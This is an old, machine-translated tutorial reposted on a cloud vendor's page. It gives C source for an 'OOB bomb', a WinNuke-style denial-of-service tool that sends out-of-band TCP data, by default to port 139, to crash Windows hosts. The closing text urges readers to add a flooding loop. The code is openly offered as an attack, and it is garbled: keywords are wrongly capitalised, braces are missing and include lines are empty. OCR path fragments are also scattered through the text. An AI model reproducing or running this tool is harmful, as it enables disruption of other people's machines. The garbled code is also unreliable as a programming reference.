Production of OOB bomb in Linux

Source: Internet
Author: User
Tags htons
Two years ago, the article was taken to fill the facade. --- Create an OOB bomb in Linux

(Author: mikespook | Release Date: | views: 466)

Keywords: Linux, OOB bomb, Network Programming
This article is only intended to provide guidance to many cainiao like me. If you are a master or have no interest in programming. We recommend that you do not waste time here.

I remember when I was in high school, I first came into contact with the winnuck blue screen bomb. At that time, it was very mysterious. Later I realized that the so-called Blue Screen bomb was the OOB bomb.
First, let's know what a OOB bomb is. The OOB bomb, as its name implies, is to send an OOB message to the other party, resulting in abnormal errors due to operating system vulnerabilities (usually blue screen, gu de blue screen bomb ). Of course, the operating system here is windows.
The following describes how to compile an OOB bomb based on your strengths. I have not tested this programfor many reasons. There are no conditions. I am not sure this is a usable version, because as far as I know, Ms has already fixed this vulnerability. Today's article is a souvenir! Let's take a look at the fact that the original bomb was not so good (although it was said, it was still highly popular to write a good bomb, such as the SYN flood that has recently become popular ).
/* --- Oob_bomb.c ---*/
/* Gcc-o tcpscan scan. C */
/* OOB bomb */
/* Mikespook */
/* 2002.5.21 */
# Include
# Include
# Include
# Include
# Include

/* This function is used to check whether the input parameter is an IP address or a host name */
Int correcthost (const char * Host, struct sockaddr_in * sock );

Main (INT argc, int * argv [])
/* The port to be attacked. Generally, the default port for OOB bombs is port 139 */
Int n_port;
/* Socket socket */
Int sock_id;
/* Return Error Code */
Int rtn_err;
/* Socket structure, which is used to establish connections and send messages */
Struct sockaddr_in remote_sock;
/* Message */
Char * pc_msg;
/* Process command line parameters */
If (argc! = 4 ){
If (argc! = 3 ){
If (argc! = 2 ){
Printf ("Usage: oob_bomb [Port] [Message]/n ");
Printf ("writen by mikespook/N ");
Printf (" subject:report for bomb/N ");
Exit (0 );
} Else
/* Use the default 139 port if no port number is entered */
Remote_sock.sin_port = htons (139 );
} Else
/* Otherwise, use the input port */
Remote_sock.sin_port = htons (atoi (argv [2]);
Pc_msg = ":-)";
} Else {
Remote_sock.sin_port = htons (atoi (argv [2]);
Pc_msg = (char *) argv [3];

Rtn_err = correcthost (char *) argv [1], (struct sockaddr_in *) & remote_sock );
If (rtn_err! = 0)
Exit (1 );

Remote_sock.sin_family = af_inet;
/* Create a socket interface */
Sock_id = socket (af_inet, sock_stream, 0 );
If (sock_id <0 ){
Perror ("/nsocket ");
Exit (2 );
/* Of course, the connection is required to continue */
Rtn_err = connect (sock_id, (struct sockaddr *) & remote_sock, sizeof (remote_sock ));
If (rtn_err <0 ){Perror ("/nconnect ");
Exit (3 );
/* Ha, send a message MSG_OOB, "bomb ..."*/
Rtn_err = Send (sock_id, pc_msg, strlen (pc_msg), MSG_OOB );
If (rtn_err =-1 ){
Perror ("/nsend ");
Exit (4 );

Printf ("oob_bomb success! /N ");
Close (sock_id );
Exit (0 );
/* I have introduced this function in the production of the TCP connect scanner last time. I will not talk much about it */
Int correcthost (const char * Host, struct sockaddr_in * sock)
Struct hostent * struct_host;
If (isdigit (* Host ))Sock-> sin_addr.s_addr = inet_addr (host );
Else {
Struct_host = gethostbyname (host );
If (struct_host! = NULL)
Bcopy (struct_host-> h_addr, (char *) & sock-> sin_addr, struct_host-> h_length );
Else {
Printf ("Get error with host name./N ");
Return 0;

Finally, when MSG_OOB messages are sent, the OOB bomb will generate a loop to send a large number of MSG_OOB messages to increase the possibility of the other party acting as a machine. I have already said how it works, and you have done the improvement. :)
Maybe something is wrong because I am a cainiao. Some details may not be taken into consideration. If you know, you may wish to give mesome advice. Thank you !!

Related Article

Contact Us

The content source of this page is from Internet, which doesn't represent Alibaba Cloud's opinion; products and services mentioned on that page don't have any relationship with Alibaba Cloud. If the content of the page makes you feel confusing, please write us an email, we will handle the problem within 5 days after receiving your email.

If you find any instances of plagiarism from the community, please send an email to: and provide relevant evidence. A staff member will contact you within 5 working days.

A Free Trial That Lets You Build Big!

Start building with 50+ products and up to 12 months usage for Elastic ComputeService

  • Sales Support

    1 on 1 presale consultation

  • After-Sales Support

    24/7 Technical Support 6 Free Tickets per Quarter FasterResponse

  • Alibaba Cloud offers highlyflexible support services tailored tomeet your exact needs.